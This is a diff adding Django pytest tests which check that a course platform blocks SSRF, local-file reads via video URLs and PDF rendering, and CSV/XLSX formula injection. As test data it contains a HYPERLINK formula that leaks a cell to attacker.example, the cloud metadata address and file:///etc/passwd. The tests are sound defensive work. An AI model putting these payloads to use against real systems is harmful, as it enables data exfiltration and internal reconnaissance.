@@ -1,0 +1,74 @@
+"""What users type never makes the server fetch anything (SSRF, local files) and never
+runs as a formula in a coordinator's spreadsheet (CSV injection)."""
+
+import csv
+import io
+
+import pytest
+from django.core.exceptions import ValidationError
+from django.urls import reverse
+from openpyxl import load_workbook
+from pypdf import PdfReader
+
+from academy.services import enrol
+from courses.blocks import VideoBlock
+from tests.academy.sessions import make_session
+from tests.courses.builders import build_course
+from tests.factories import UserFactory
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
+
+
+def test_a_video_address_on_this_machine_is_refused_without_a_request(local_server, db):
+    block = VideoBlock()
+
+    for address in (
+        f"{local_server}/watch?v=1",
+        "http://169.254.169.254/latest/meta-data/",
+        "file:///etc/passwd",
+    ):
+        value = block.to_python({"video": address, "caption": "", "transcript": ""})
+        with pytest.raises(ValidationError):
+            block.clean(value)
+
+    assert local_server.hits == []
+
+
+def test_the_transcript_fetches_nothing_named_in_a_name_or_a_title(client, lisbon, local_server):
+    officer = UserFactory(full_name=f'<img src="{local_server}/name.png">')
+    enrol(
+        officer,
+        make_session(
+            lisbon.academy,
+            title=f'<link rel="stylesheet" href="{local_server}/x.css"> file:///etc/passwd',
+        ),
+    )
+    client.force_login(officer)
+
+    response = client.get(reverse("transcript"))
+
+    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
+    assert local_server.hits == []
+    assert f'<img src="{local_server}/name.png">' in text  # printed as text
+    assert "root:" not in text
+
+
+def test_a_name_typed_as_a_formula_stays_text_in_the_csv_and_xlsx_exports(
+    client, madrid, madrid_coordinator
+):
+    course = build_course(madrid.academy, modules=1)
+    session = make_session(madrid.academy, course=course, capacity=5)
+    enrol(UserFactory(full_name=FORMULA), session)
+    enrol(UserFactory(full_name="-1+2"), session)
+    client.force_login(madrid_coordinator)
+    url = reverse("home_session_progress", args=[session.pk])
+
+    exported = b"".join(client.get(url, {"export": "csv"}).streaming_content).decode()
+    names = {row["Officer"] for row in csv.DictReader(io.StringIO(exported))}
+    workbook = b"".join(client.get(url, {"export": "xlsx"}).streaming_content)
+    sheet = load_workbook(io.BytesIO(workbook)).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+
+    assert names == {"'" + FORMULA, "'-1+2"}
+    assert {cell.value for cell in cells} == {FORMULA, "-1+2"}
+    assert {cell.data_type for cell in cells} == {"s"}
